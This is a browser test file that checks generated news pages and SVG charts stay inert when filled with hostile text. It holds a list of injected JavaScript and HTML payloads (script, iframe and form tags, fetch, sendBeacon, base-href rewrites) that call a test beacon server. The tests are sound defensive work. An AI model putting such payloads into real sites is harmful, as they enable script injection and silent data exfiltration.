"""Pages and pictures made of hostile text, opened in a real browser: they are text and nothing else."""

import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from itertools import count, cycle
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page

from nightdesk.tasks.edition.index import write_index
from nightdesk.tasks.edition.pages import edition_path, write_edition
from nightdesk.tasks.edition.shown import shown
from nightdesk.tasks.edition.whole_page import night_page
from nightdesk.tasks.learning.weights_plot import picture
from tests.heard import Heard, one_heard
from tests.hostile import BIDI, DAY, hostile, night_of
from tests.nights import publish_night, said

pytestmark = pytest.mark.browser
# What the page is made of, without the style and the script, which are ours.
OUTLINE = "() => [...document.querySelectorAll('*')].map(e => [e.tagName, ...e.getAttributeNames()].join(' '))"
# How far each character of an element's first text stands to the right of the one before it.
STEPS = """e => { const text = e.firstChild; const at = [...text.data].map((_, k) => { const r = new Range();
  r.setStart(text, k); r.setEnd(text, k + 1); return r.getBoundingClientRect().left; });
  return at.slice(1).map((x, k) => Math.round(x - at[k])); }"""


@pytest.fixture
def beacon() -> Iterator[Heard]:
    """A server that hostile text names: whoever asks it was told to by the text."""
    with one_heard() as heard:
        yield heard


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    """A window of its own."""
    with browser.new_context(viewport={"width": 1280, "height": 900}) as opened:
        yield opened


def written(out: Path, text: Callable[[], str]) -> Path:
    """Write a page and an index that consist of texts; return the folder."""
    page = edition_path(out, DAY)
    page.parent.mkdir(parents=True)
    (out / "_staging").mkdir()
    page.write_text(night_page(night_of(text)), encoding="utf-8")
    headlines = [{"title": shown(text()), "language": shown(text()), "id": shown(text())} for _ in range(30)]
    figures = dict.fromkeys(("documents", "unreadable", "sentences", "unplaced", "stories"), 9)
    short = {"profiles": [shown(text())], **figures, "headlines": headlines}
    page.with_name("night.json").write_text(json.dumps(short))
    write_index(out)
    return out / "editions"


def opened(context: BrowserContext, file: Path) -> tuple[Page, list[str]]:
    """Open a file; return it and what happened beside that it was shown: requests, dialogs, messages, errors."""
    tab = context.new_page()
    happened: list[str] = []

    def asked(url: str) -> None:
        if url != file.as_uri() and not url.startswith("data:image/svg+xml,"):
            happened.append(url)

    def refused(dialog: Dialog) -> None:
        happened.append(dialog.message)
        dialog.dismiss()

    tab.on("request", lambda request: asked(request.url))
    tab.on("console", lambda message: happened.append(message.text))
    tab.on("pageerror", lambda error: happened.append(str(error)))
    tab.on("dialog", refused)
    tab.goto(file.as_uri())
    return tab, happened


@pytest.mark.parametrize("name", ["index.html", f"{DAY}/index.html"])
def test_a_page_of_hostile_text_has_the_elements_of_a_harmless_one_and_asks_nobody(
    context: BrowserContext, beacon: Heard, tmp_path: Path, name: str
) -> None:
    texts = cycle(hostile(f"http://{beacon.host}/"))
    tab, happened = opened(context, written(tmp_path / "hostile", lambda: next(texts)) / name)
    numbers = count()
    plain, _ = opened(context, written(tmp_path / "plain", lambda: f"text {next(numbers)}") / name)
    found, expected = tab.evaluate(OUTLINE), plain.evaluate(OUTLINE)
    assert set(found) == set(expected)
    tab.mouse.move(400, 400)
    tab.keyboard.press("Tab")
    tab.wait_for_timeout(300)
    assert tab.title() == plain.title()
    assert (happened, beacon.asked) == ([], [])
    said = tab.evaluate("document.body.textContent")
    assert all(shown(text[:100]) in said for text in hostile(f"http://{beacon.host}/"))
    assert not tab.evaluate(r"/[\u202a-\u202e\u2066-\u2069\u0000-\u0008]/.test(document.documentElement.outerHTML)")


def test_text_that_ends_its_isolation_turns_nothing_that_stands_after_it(
    context: BrowserContext, tmp_path: Path
) -> None:
    publish_night(tmp_path, DAY, {"wire": said("Rate", "facts", f"It is {BIDI}", "The rate is 5 %.")})
    tab, _ = opened(context, write_edition(tmp_path, DAY))
    steps = tab.locator('main bdi[data-n="2"]').evaluate(STEPS)
    assert len(steps) == len("The rate is 5 %.") - 1 and min(steps) > 0


@pytest.mark.parametrize(
    "injected",
    [
        "document.body.append(Object.assign(document.createElement('script'), {{src: '{0}'}}))",
        "document.body.insertAdjacentHTML('beforeend', '<img src={0}><video poster={0}></video><audio src={0}>')",
        "document.body.insertAdjacentHTML('beforeend', '<iframe src={0}></iframe><object data={0}></object>')",
        "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href={0}><link rel=prefetch href={0}>')",
        "document.body.insertAdjacentHTML('beforeend', '<p style=\"background:url({0})\">x</p>')",
        "document.body.insertAdjacentHTML('beforeend', '<form action={0}></form>'), document.forms[0].submit()",
        "document.head.insertAdjacentHTML('beforeend', '<base href={0}>'), document.querySelector('a[href]').href",
        "fetch('{0}').catch(() => 0)",
        "navigator.sendBeacon('{0}', 'x')",
        "void new EventSource('{0}')",
        "new FontFace('x', 'url({0})').load().catch(() => 0)",
    ],
)
def test_what_got_in_all_the_same_would_reach_nobody(
    context: BrowserContext, beacon: Heard, tmp_path: Path, injected: str
) -> None:
    tab, _ = opened(context, written(tmp_path, lambda: "text") / f"{DAY}/index.html")
    tab.evaluate(injected.format(f"http://{beacon.host}/injected"))
    tab.wait_for_timeout(300)
    assert beacon.asked == []
    assert tab.evaluate("document.baseURI") == tab.url


def test_a_link_out_says_not_where_it_came_from_and_gives_no_hold_on_the_page(
    context: BrowserContext, beacon: Heard, tmp_path: Path
) -> None:
    numbers = count()
    night = night_of(lambda: f"text {next(numbers)}")
    linked = replace(night.documents[0], source=f"http://{beacon.host}/article")
    file = tmp_path / "index.html"
    file.write_text(night_page(replace(night, documents=(linked, *night.documents[1:]))), encoding="utf-8")
    tab, happened = opened(context, file)
    link = tab.get_by_role("link", name=linked.source)
    link.hover()
    assert (happened, beacon.asked) == ([], [])
    with context.expect_page() as new:
        link.click()
    new.value.wait_for_load_state()
    assert new.value.evaluate("[document.referrer, opener]") == ["", None]
    assert beacon.asked[0] == "/article"
    assert not {"referer", "origin"} & beacon.headers[0].keys()
    assert set((link.get_attribute("rel") or "").split()) == {"noopener", "noreferrer", "nofollow"}


def test_a_picture_of_hostile_names_is_a_picture_when_it_is_opened(
    context: BrowserContext, beacon: Heard, tmp_path: Path
) -> None:
    names = hostile(f"http://{beacon.host}/")
    file = tmp_path / "000001.svg"
    lines = {name: [(1.0, 0.5), (2.0, 0.7)] for name in names}
    file.write_text(picture("news", 1, {"topic finder, en": lines}, lines), encoding="utf-8")
    tab, happened = opened(context, file)
    tab.wait_for_timeout(200)
    assert tab.evaluate("document.documentElement.tagName") == "svg"
    tags = tab.evaluate("() => [...new Set([...document.querySelectorAll('*')].map(e => e.tagName))].sort()")
    assert tags == ["circle", "polyline", "rect", "svg", "text"]
    assert (happened, beacon.asked) == ([], [])
